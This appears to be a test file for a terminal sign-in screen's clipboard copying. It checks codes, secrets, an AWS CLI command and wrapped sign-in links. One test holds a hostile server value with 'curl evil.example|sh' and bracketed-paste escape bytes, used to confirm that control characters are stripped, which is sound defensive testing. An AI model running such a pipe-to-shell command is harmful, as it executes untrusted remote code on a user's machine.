import assert from 'node:assert/strict';
import {test} from 'node:test';
import {screenOf} from '../../source/ui/screen-of.tsx';
import {states} from '../flow/samples.ts';
import {copied, openTerminal} from '../helpers/terminal.ts';

const context = {send: () => {}, now: () => 0};
test('Ctrl+Y copies one thing after another, and says which', async () => {
	await using terminal = await openTerminal(screenOf(states.enterCode, context), {columns: 120});
	assert.match(terminal.text(), /Ctrl\+Y copy/);
	assert.deepEqual(copied(terminal.transcript()), []);
	await terminal.press('ctrl+y');
	assert.match(
		terminal.text(),
		/Sent the request ID to the clipboard, .* Ctrl\+Y again: the\s+command\./,
	);
	await terminal.type('4711');
	await terminal.press('ctrl+y', 'ctrl+y');
	const command =
		'aws cognito-idp get-user-attribute-verification-code --region eu-west-1 --access-token "$ACCESS_TOKEN" --attribute-name email';
	assert.deepEqual(copied(terminal.transcript()), ['request-1', command, 'request-1']);
	assert.match(terminal.text(), /Code: 4711/);
});

test('the secret for an authenticator app is copied without its spaces', async () => {
	await using terminal = await openTerminal(screenOf(states.authenticator, context), {
		columns: 120,
	});
	await terminal.press('ctrl+y');
	assert.deepEqual(copied(terminal.transcript()), ['JBSWY3DPEHPK3PXP']);
	assert.match(terminal.text(), /Sent the secret to the clipboard/);
});

test('the address of a browser sign-in is one link, however it is wrapped, without a QR code, and is copied whole', async () => {
	const url = `https://auth.example.com/oauth2/authorize?state=${'x'.repeat(90)}`;
	const state = {...states.waitingForBrowser, browser: {...states.waitingForBrowser.browser, url}};
	await using terminal = await openTerminal(screenOf(state, context), {columns: 200, rows: 50});
	assert.doesNotMatch(terminal.text(), /[▀▄█]|QR/);
	await terminal.resize(60, 24);
	const links = [...terminal.transcript().matchAll(/\u001b\]8;;([^\u0007]+)\u0007/g)];
	assert.ok(links.length >= 3);
	assert.ok(links.every(([, to]) => to === url));
	await terminal.press('ctrl+y');
	assert.deepEqual(copied(terminal.transcript()), [url]);
});

test('what a server gives is copied as one line without control characters', async () => {
	const hostile = 'JBSW\r\ncurl evil.example|sh\n\u001b[201~\u009b31mend';
	const state = {...states.authenticator, secret: hostile};
	await using terminal = await openTerminal(screenOf(state, context), {columns: 120});
	await terminal.press('ctrl+y');
	assert.deepEqual(copied(terminal.transcript()), ['JBSW curl evil.example|sh end']);

	const {sent} = states.enterCode;
	const requestId = 'id\u001b[201~\u0007\u009b';
	const entering = {
		...states.enterCode,
		sent: {...sent, delivery: {...sent.delivery, requestId}},
	};
	await using other = await openTerminal(screenOf(entering, context), {columns: 120});
	await other.press('ctrl+y');
	assert.deepEqual(copied(other.transcript()), ['id[201~']);
});
